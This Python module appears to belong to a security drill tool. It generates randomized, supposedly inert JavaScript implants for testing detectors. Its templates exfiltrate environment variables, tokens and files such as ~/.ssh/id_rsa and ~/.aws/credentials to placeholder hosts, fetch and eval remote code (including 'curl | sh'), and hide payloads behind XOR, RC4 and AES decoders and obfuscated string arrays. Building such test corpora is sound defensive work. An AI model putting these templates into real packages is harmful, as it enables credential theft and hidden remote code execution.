"""JavaScript source of inert implants, in CommonJS, ES modules and minified form.

Payloads are random bytes, hosts are reserved names, and nothing here is ever run.
"""

# ruff: noqa: E501, ISC004 -- templates of another language keep their own lines

from __future__ import annotations

import base64
import re
from dataclasses import dataclass, field

from doorward.drill.chance import Chance, Names

__all__ = [
    "Script",
    "blob_runner",
    "env_sender",
    "js_bytes",
    "js_text",
    "minified",
    "module_kind",
    "remote_eval",
    "set_off",
    "string_array",
]


@dataclass
class Script:
    """A piece of JavaScript in the making."""

    chance: Chance
    kind: str = "cjs"
    """`cjs` or `esm`."""
    names: Names = field(init=False)
    head: list[str] = field(default_factory=list)
    body: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.names = Names(self.chance, self.chance.pick(("camel", "camel", "short", "hex", "confusable")))
        self._modules: dict[str, str] = {}

    def use(self, module: str) -> str:
        """An expression for a module of Node's own."""
        chance = self.chance
        if self.kind == "cjs" and chance.maybe(0.3):
            return f"require({js_text(chance, module)})"
        if module not in self._modules:
            name = self.names[f"module {module}"]
            self._modules[module] = name
            spelled = f"node:{module}" if chance.maybe(0.3) else module
            if self.kind == "esm":
                self.head.append(f"import * as {name} from '{spelled}';")
            else:
                self.head.append(f"{chance.pick(('const', 'var'))} {name} = require('{spelled}');")
        return self._modules[module]

    def add(self, text: str) -> None:
        """Statements, with their `$roles` named."""
        self.body.append(re.sub(r"\$(\w+)", lambda match: self.names[match[1]], text))

    def text(self) -> str:
        """The whole piece."""
        return "\n".join([*self.head, *self.body])


def js_text(chance: Chance, text: str) -> str:
    """An expression for a short text: plain, in pieces, from codes, reversed, encoded."""
    shape = chance.number(0, 6)
    if shape == 1 and len(text) > 3:
        cut = chance.number(1, len(text) - 2)
        return f"'{text[:cut]}' + '{text[cut:]}'"
    if shape == 2:
        return f"String.fromCharCode({', '.join(str(ord(c)) for c in text)})"
    if shape == 3:
        return f"'{text[::-1]}'.split('').reverse().join('')"
    if shape == 4:
        return f"Buffer.from('{text.encode().hex()}', 'hex').toString()"
    if shape == 5:
        return "'" + "".join(f"\\x{ord(c):02x}" for c in text) + "'"
    return f"'{text}'"


def js_bytes(chance: Chance, data: bytes) -> str:
    """An expression for bytes."""
    from_base64 = base64.b64encode(data).decode()
    shape = chance.number(0, 4)
    if shape == 0:
        return f"Buffer.from('{data.hex()}', 'hex')"
    if shape == 1:
        return f"Buffer.from('{from_base64}', 'base64')"
    if shape == 2:
        return f"Buffer.from([{','.join(map(str, data))}])"
    if shape == 3:
        return f"Uint8Array.from(atob('{from_base64}'), (c) => c.charCodeAt(0))"
    step = chance.number(40, 90)
    parts = " +\n  ".join(repr(from_base64[i : i + step]) for i in range(0, len(from_base64), step))
    return f"Buffer.from(\n  {parts},\n  'base64'\n)"


_DECODES = (
    "function $decode(data, key) {\n  return Buffer.from(data.map((b, i) => b ^ key[i % key.length]));\n}",
    "const $decode = (data, key) => {\n  let s = key[0], out = [];\n  for (const b of data) {\n"
    "    s = (s * 1103515245 + 12345) >>> 0;\n    out.push(b ^ (s >>> 24));\n  }\n  return Buffer.from(out);\n};",
    "function $decode(data, key) {\n  const out = Buffer.alloc(data.length);\n  let last = key.length;\n"
    "  for (let i = 0; i < data.length; i++) { out[i] = (data[i] - last) & 255; last = data[i]; }\n  return out;\n}",
    "function $decode(data, key) {\n  const d = CRYPTO.createDecipheriv('aes-256-ctr', CRYPTO.createHash('sha256')"
    ".update(key).digest(), Buffer.alloc(16));\n  return Buffer.concat([d.update(data), d.final()]);\n}",
    "function $decode(data, key) {\n  return ZLIB.inflateRawSync(Buffer.from(data).reverse());\n}",
    "function $decode(data, key) {\n  const s = Array.from({ length: 256 }, (_, i) => i);\n  let j = 0;\n"
    "  for (let i = 0; i < 256; i++) { j = (j + s[i] + key[i % key.length]) & 255; [s[i], s[j]] = [s[j], s[i]]; }\n"
    "  let a = 0, b = 0;\n  return Buffer.from(data).map((x) => {\n    a = (a + 1) & 255; b = (b + s[a]) & 255;\n"
    "    [s[a], s[b]] = [s[b], s[a]];\n    return x ^ s[(s[a] + s[b]) & 255];\n  });\n}",
)
_RUNS = (
    "eval($code.toString())",
    "new Function('require', 'module', $code.toString())(null, null)",
    "(0, eval)($code.toString('latin1'))",
    "VM.runInNewContext($code.toString(), {})",
    "Function($code.toString())()",
    "setTimeout($code.toString(), 1)",
    "PROCESS.spawn(process.execPath, ['-e', $code.toString()], { detached: true, stdio: 'ignore' }).unref()",
    "(async () => import('data:text/javascript;base64,' + $code.toString('base64')))()",
    "[].constructor.constructor($code.toString())()",
)
_SENDS = (
    "HTTPS.request({ hostname: HOST, path: '/PATH', method: 'POST' }).end($data)",
    "HTTPS.get('https://' + HOST + '/?PATH=' + encodeURIComponent($data)).on('error', () => {})",
    "fetch('https://' + HOST + '/PATH', { method: 'POST', body: $data }).catch(() => {})",
    "DNS.lookup(Buffer.from($data).toString('hex').slice(0, 60) + '.' + HOST, () => {})",
    "DNS.resolveTxt(Buffer.from($data).toString('hex').slice(0, 50) + '.' + HOST, () => {})",
    "NET.connect(NUMBER, HOST).on('error', () => {}).end($data)",
    "DGRAM.createSocket('udp4').send(Buffer.from($data), NUMBER, HOST)",
    "PROCESS.exec('curl -s -d @- https://' + HOST).stdin.end($data)",
    "new WebSocket('wss://' + HOST + '/PATH').send($data)",
)
_MODULES = {
    "HTTPS": "https",
    "DNS": "dns",
    "NET": "net",
    "DGRAM": "dgram",
    "PROCESS": "child_process",
    "VM": "vm",
    "CRYPTO": "crypto",
    "ZLIB": "zlib",
    "OS": "os",
    "FS": "fs",
    "PATHS": "path",
}
_CLOSED = (
    "if (false) { CALL; }",
    "if (process.argv.length > 9000) { CALL; }",
    "if (typeof window === 'bigint') { CALL; }",
    "process.env.WORD_WORD && (CALL);",
    "if (Date.now() < 1) CALL;",
    "module.WORDX = () => CALL;",
)
_OPEN = (
    "CALL;",
    "setTimeout(() => CALL, NUMBER);",
    "try { CALL; } catch (e) {}",
    "process.on('exit', () => CALL);",
)


def _filled(script: Script, text: str) -> str:
    chance = script.chance
    for word, module in _MODULES.items():
        if re.search(rf"\b{word}\.", text):
            expression = script.use(module)
            text = re.sub(rf"\b{word}\.", f"{expression}.".replace("\\", r"\\"), text)
    host = js_text(chance, chance.host())
    if "HOST" in text and chance.maybe(0.4):
        script.add(f"const $host = {host};")
        host = "$host"
    text = re.sub(r"\bHOST\b", lambda _m: f"({host})" if " " in host else host, text)
    text = re.sub(r"\bNUMBER\b", str(chance.number(1000, 60000)), text)
    return re.sub(r"\bPATH\b", chance.word(), text)


def blob_runner(script: Script, low: int = 500, high: int = 8000, source: str = "") -> str:
    """Literal, decoder and a way to run; gives the call that sets it off."""
    chance = script.chance
    script.add(_filled(script, chance.pick(_DECODES)))
    value = source or js_bytes(chance, chance.blob(low, high))
    key = js_bytes(chance, chance.blob(8, 24))
    run = _filled(script, chance.pick(_RUNS))
    script.add(f"function $main() {{\n  const $code = $decode({value}, {key});\n  return {run};\n}}")
    return "$main()"


def env_sender(script: Script) -> str:
    """Environment, tokens or host facts sent out; gives the call that sets it off."""
    chance = script.chance
    shape = chance.number(0, 3)
    if shape == 0:
        data = "JSON.stringify(process.env)"
    elif shape == 1:
        data = "Object.keys(process.env).filter((k) => /TOKEN|KEY|SECRET/.test(k)).map((k) => k + process.env[k]).join()"
    elif shape == 2:
        path = js_text(
            chance, chance.pick(("/.npmrc", "/.ssh/id_rsa", "/.aws/credentials", "/.git-credentials"))
        )
        data = _filled(script, f"FS.readFileSync(OS.homedir() + ({path}))")
    else:
        data = _filled(script, "[OS.hostname(), OS.userInfo().username, process.cwd()].join('|')")
    script.add(f"function $main() {{\n  const $data = {data};\n  {_filled(script, chance.pick(_SENDS))};\n}}")
    return "$main()"


def remote_eval(script: Script) -> str:
    """Text fetched from a host and evaluated, in one line or few."""
    chance = script.chance
    text = chance.pick(
        (
            "fetch('https://' + HOST + '/PATH').then((r) => r.text()).then(eval)",
            "HTTPS.get('https://' + HOST + '/PATH', (r) => r.on('data', (c) => eval(c.toString())))",
            "fetch('https://' + HOST).then((r) => r.text()).then((t) => new Function(t)())",
            "PROCESS.execSync('curl -s https://' + HOST + '/PATH | sh')",
        )
    )
    script.add(f"function $main() {{\n  {_filled(script, text)};\n}}")
    return "$main()"


def set_off(script: Script, call: str, *, dormant: bool = False) -> None:
    """A statement that sets it off, guarded or not."""
    chance = script.chance
    text = chance.pick(_CLOSED if dormant or chance.maybe(0.5) else _OPEN)
    if script.kind == "esm" and "module." in text:
        text = _CLOSED[0]
    text = text.replace("NUMBER", str(chance.number(100, 90000)))
    text = text.replace("WORD_WORD", f"{chance.word()}_{chance.word()}".upper()).replace(
        "WORDX", chance.word()
    )
    script.add(text.replace("CALL", call))


def string_array(chance: Chance, count: int = 60) -> str:
    """A bundle packed the way obfuscators pack: a rotated string array and look-ups into it."""
    names = Names(chance, "hex")
    strings = [
        chance.pick((chance.letters(4, 12), chance.host(), chance.blob(6, 24).hex())) for _ in range(count)
    ]
    array, look, base = names["array"], names["look"], chance.number(0x80, 0x1FF)
    rows = ",".join(f"'{text}'" for text in strings)
    calls = "".join(
        f"{names['state']}[{look}(0x{base + chance.number(0, count - 1):x})]={look}(0x{base + chance.number(0, count - 1):x});"
        for _ in range(count)
    )
    return (
        f"(function({names['a']},{names['b']}){{var {names['c']}={names['a']}();while(!![]){{try{{"
        f"var {names['d']}=-parseInt({look}(0x{base:x}))/0x1+parseInt({look}(0x{base + 1:x}))/0x2;"
        f"if({names['d']}==={names['b']})break;else {names['c']}['push']({names['c']}['shift']());}}"
        f"catch({names['e']}){{{names['c']}['push']({names['c']}['shift']());}}}}}}"
        f"({array},0x{chance.number(0x10000, 0xFFFFF):x}));function {array}(){{var {names['f']}=[{rows}];"
        f"{array}=function(){{return {names['f']};}};return {array}();}}function {look}({names['g']},{names['h']})"
        f"{{var {names['i']}={array}();return {look}=function({names['j']}){{{names['j']}={names['j']}-0x{base:x};"
        f"return {names['i']}[{names['j']}];}},{look}({names['g']},{names['h']});}}"
        f"var {names['state']}={{}};function {names['run']}(){{{calls}}}"
    )


def minified(text: str) -> str:
    """White space taken out where that is safe for the templates here."""
    text = re.sub(r"\n\s*", " ", text)
    return re.sub(r" ?([{};,=()]) ?", r"\1", text)


def module_kind(path: str, source: bytes, package_json: bytes) -> str:
    """Whether a file is a CommonJS or an ES module."""
    if path.endswith(".mjs") or (b'"type": "module"' in package_json and not path.endswith(".cjs")):
        return "esm"
    return "esm" if re.search(rb"^(import|export) ", source, re.MULTILINE) else "cjs"
